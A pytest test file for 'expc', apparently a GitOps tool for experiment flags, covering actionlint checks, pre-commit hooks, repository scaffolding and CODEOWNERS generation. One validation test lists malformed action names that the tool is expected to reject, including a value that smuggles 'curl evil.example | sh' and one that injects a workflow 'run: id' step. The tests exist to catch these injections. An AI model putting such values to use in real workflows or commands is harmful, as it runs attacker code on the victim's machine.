"""The GitOps pieces as a team adopts them: workflows and the action pass actionlint,
the pre-commit hooks run from a real repository, `expc init` scaffolds a repository
that compiles at once, and owners become CODEOWNERS."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from unittest.mock import ANY

import pytest
from conftest import REPO, git
from ruamel.yaml import YAML

from expc import __version__, cli
from expc.render import MARKER

ACTIONLINT = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
needs_actionlint = pytest.mark.skipif(
    not Path(ACTIONLINT).exists(), reason="actionlint is installed with the test extra"
)


def actionlint(*paths: Path, cwd: Path = REPO) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [ACTIONLINT, "-no-color", *map(str, paths)],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
    )


@needs_actionlint
def test_workflows_pass_actionlint() -> None:
    workflows = sorted((REPO / ".github" / "workflows").glob("*.yml"))
    assert {w.name for w in workflows} >= {"ci.yml", "experiments.yml"}
    result = actionlint(*workflows)
    assert result.returncode == 0, result.stdout


@needs_actionlint
def test_actionlint_catches_a_wrong_input_to_our_action(tmp_path: Path) -> None:
    broken = REPO / ".github" / "workflows" / "zz-broken-for-test.yml"
    broken.write_text(
        "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: ./\n        with:\n          definitons: definitions\n"
    )
    try:
        result = actionlint(broken)
    finally:
        broken.unlink()
    assert result.returncode == 1
    assert 'input "definitons" is not defined' in result.stdout


def test_action_is_complete_and_uses_the_reports_marker() -> None:
    action = YAML(typ="safe").load((REPO / "action.yml").read_text())
    assert set(action["inputs"]) == {"definitions", "against", "comment", "python-version"}
    assert all(spec.get("description") for spec in action["inputs"].values())
    assert action["runs"]["using"] == "composite"
    for step in action["runs"]["steps"]:
        assert "uses" in step or step.get("shell") == "bash", step
    comment_step = next(s for s in action["runs"]["steps"] if "github-script" in s.get("uses", ""))
    assert MARKER in comment_step["with"]["script"]
    workflow = YAML(typ="safe").load(
        (REPO / ".github" / "workflows" / "experiments.yml").read_text()
    )
    gate = workflow["jobs"]["gate"]
    assert gate["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert gate["steps"][0]["with"]["fetch-depth"] == 0
    assert workflow["permissions"] == {"contents": "read"}


@pytest.mark.skipif(
    shutil.which("pre-commit") is None
    and not (Path(sys.executable).parent / "pre-commit").exists(),
    reason="pre-commit is in the test extra",
)
def test_pre_commit_hooks_from_this_repository(tmp_path: Path) -> None:
    config = tmp_path / "config"
    shutil.copytree(REPO / "definitions", config / "definitions")
    shutil.copytree(REPO / "generated", config / "generated")
    git(config, "init", "-q")
    git(config, "add", "-A")
    pre_commit = shutil.which("pre-commit") or str(Path(sys.executable).parent / "pre-commit")
    env = {**os.environ, "PRE_COMMIT_HOME": str(tmp_path / "cache")}

    def hook(hook_id: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [pre_commit, "try-repo", str(REPO), hook_id, "--all-files"],
            cwd=config,
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )

    assert hook("expc-validate").returncode == 0
    assert hook("expc-compile-check").returncode == 0
    experiment = config / "definitions" / "experiments" / "search" / "search-typo-tolerance.yaml"
    experiment.write_text(experiment.read_text().replace("state: running", "state: stopped"))
    git(config, "add", "-A")
    stale = hook("expc-compile-check")
    assert stale.returncode == 1 and "generated/production/bundle.json: stale" in stale.stdout
    experiment.write_text(experiment.read_text() + "trafic: 5\n")
    git(config, "add", "-A")
    invalid = hook("expc-validate")
    assert invalid.returncode == 1 and "error[E101 unknown-field]" in invalid.stdout


def scaffold_files(target: Path) -> dict[str, str]:
    """Every file init wrote outside generated/, by path relative to `target`."""
    return {
        path.relative_to(target).as_posix(): path.read_text()
        for path in sorted(target.rglob("*"))
        if path.is_file() and not path.relative_to(target).as_posix().startswith("generated/")
    }


def test_init_scaffolds_a_repository_that_compiles_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "new-config"
    assert cli.main(["init", str(target)]) == cli.EXIT_OK
    assert "compiled 3 flags into" in capsys.readouterr().out
    assert (target / ".github" / "workflows" / "experiments.yml").is_file()
    assert (target / ".pre-commit-config.yaml").is_file()
    # Staging and production, with the example experiment running in staging only.
    assert (
        "environments: [staging, production]"
        in (target / "definitions" / "project.yaml").read_text()
    )
    states = {}
    for environment in ("staging", "production"):
        bundle = json.loads((target / "generated" / environment / "bundle.json").read_text())
        assert bundle["release"]["environment"] == environment
        flags = {flag["key"]: flag for flag in bundle["flags"]}
        assert {"example-experiment", "example-group", "example-holdout"} <= set(flags)
        states[environment] = flags["example-experiment"]["state"]
    assert states == {"staging": "running", "production": "draft"}
    assert not (target / "generated" / "bundle.json").exists()
    assert (
        "/definitions/groups/example-group.yaml @your-org/your-team"
        in (target / "generated" / "CODEOWNERS").read_text()
    )
    monkeypatch.chdir(target)
    # What init wrote is exactly what compile writes: the pre-commit hook passes at once.
    assert cli.main(["compile", "--check"]) == cli.EXIT_OK
    assert cli.main(["validate", "--strict"]) == cli.EXIT_OK
    if Path(ACTIONLINT).exists():
        assert (
            actionlint(target / ".github" / "workflows" / "experiments.yml", cwd=target).returncode
            == 0
        )


def test_init_action_names_every_place_expc_comes_from(tmp_path: Path) -> None:
    target = tmp_path / "config"
    action = "my-org/expc.fork@release/v9"
    assert cli.main(["init", str(target), "--action", action]) == cli.EXIT_OK
    files = scaffold_files(target)
    assert not [name for name, text in files.items() if "expc-dev" in text]
    workflow = YAML(typ="safe").load(files[".github/workflows/experiments.yml"])
    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
    assert {"uses": action, "with": ANY} in steps
    install = next(step["run"] for step in steps if "pip install" in step.get("run", ""))
    assert install == 'pip install "git+https://github.com/my-org/expc.fork@release/v9"'
    hooks = YAML(typ="safe").load(files[".pre-commit-config.yaml"])["repos"][0]
    assert (hooks["repo"], hooks["rev"]) == ("https://github.com/my-org/expc.fork", "release/v9")
    assert 'pip install "git+https://github.com/my-org/expc.fork@release/v9"' in files["README.md"]
    assert "[expc](https://github.com/my-org/expc.fork)" in files["README.md"]
    if Path(ACTIONLINT).exists():
        workflow_path = target / ".github" / "workflows" / "experiments.yml"
        assert actionlint(workflow_path, cwd=target).returncode == 0


def test_init_default_action_is_this_release(tmp_path: Path) -> None:
    assert cli.main(["init", str(tmp_path)]) == cli.EXIT_OK
    hooks = YAML(typ="safe").load((tmp_path / ".pre-commit-config.yaml").read_text())
    assert hooks["repos"][0]["rev"] == f"v{__version__}"
    workflow = (tmp_path / ".github" / "workflows" / "experiments.yml").read_text()
    assert f"uses: expc-dev/expc@v{__version__}" in workflow


@pytest.mark.parametrize(
    "action",
    [
        "my-org/expc",  # no ref
        "my-org/expc@",
        "expc@v1",  # no owner
        "my-org/tools/expc@v1",  # a path inside a repository
        "-my-org/expc@v1",
        "my--org/expc@v1",
        "my-org/expc@v1; curl evil.example | sh",
        "my-org/expc@../../v1",
        "my-org/expc@v1\nrun: id",
        "https://github.com/my-org/expc@v1",
        "",
    ],
)
def test_init_refuses_a_malformed_action_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: str
) -> None:
    target = tmp_path / "config"
    assert cli.main(["init", str(target), f"--action={action}"]) == cli.EXIT_USAGE
    assert "expected owner/repo@ref" in capsys.readouterr().err
    assert not target.exists()


def test_init_refuses_to_overwrite(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "definitions").mkdir()
    (tmp_path / "definitions" / "project.yaml").write_text("kind: project\nkey: project\n")
    assert cli.main(["init", str(tmp_path)]) == cli.EXIT_USAGE
    assert "not overwriting existing files" in capsys.readouterr().err
    assert not (tmp_path / "README.md").exists()  # nothing written
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["definitions", "project.yaml"]


def test_init_refuses_to_overwrite_generated_outputs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "generated").mkdir()
    (tmp_path / "generated" / "bundle.json").write_text("a released bundle\n")
    assert cli.main(["init", str(tmp_path)]) == cli.EXIT_USAGE
    assert f"{tmp_path / 'generated' / 'bundle.json'}" in capsys.readouterr().err
    assert (tmp_path / "generated" / "bundle.json").read_text() == "a released bundle\n"
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["bundle.json", "generated"]


def test_init_into_an_unwritable_place_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "notes.txt").write_text("a file, not a folder\n")
    assert cli.main(["init", str(tmp_path / "notes.txt" / "config")]) == cli.EXIT_USAGE
    err = capsys.readouterr().err
    assert f"{tmp_path / 'notes.txt'}: is a file" in err and "wrote nothing" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt"]


@pytest.mark.skipif(not hasattr(os, "fork"), reason="sets a file size limit in the child")
def test_init_that_fails_half_way_leaves_nothing_behind(tmp_path: Path) -> None:
    import resource
    import signal

    def files_up_to_4_kib() -> None:  # the disk "fills up" after the first few files
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    result = subprocess.run(
        [sys.executable, "-m", "expc", "init", str(tmp_path / "config")],
        capture_output=True,
        text=True,
        env=dict(os.environ),
        preexec_fn=files_up_to_4_kib,
        check=False,
    )
    assert result.returncode == cli.EXIT_USAGE, result.stderr
    assert "cannot be written (File too large); init wrote nothing" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_codeowners_lists_every_owned_definition() -> None:
    lines = (REPO / "generated" / "CODEOWNERS").read_text().splitlines()
    assert "/definitions/groups/checkout-surface.yaml @shopwell/checkout" in lines
    assert (
        "/definitions/experiments/onboarding/onboarding-pricing-preview.yaml "
        "@shopwell/growth @shopwell/pricing"
    ) in lines
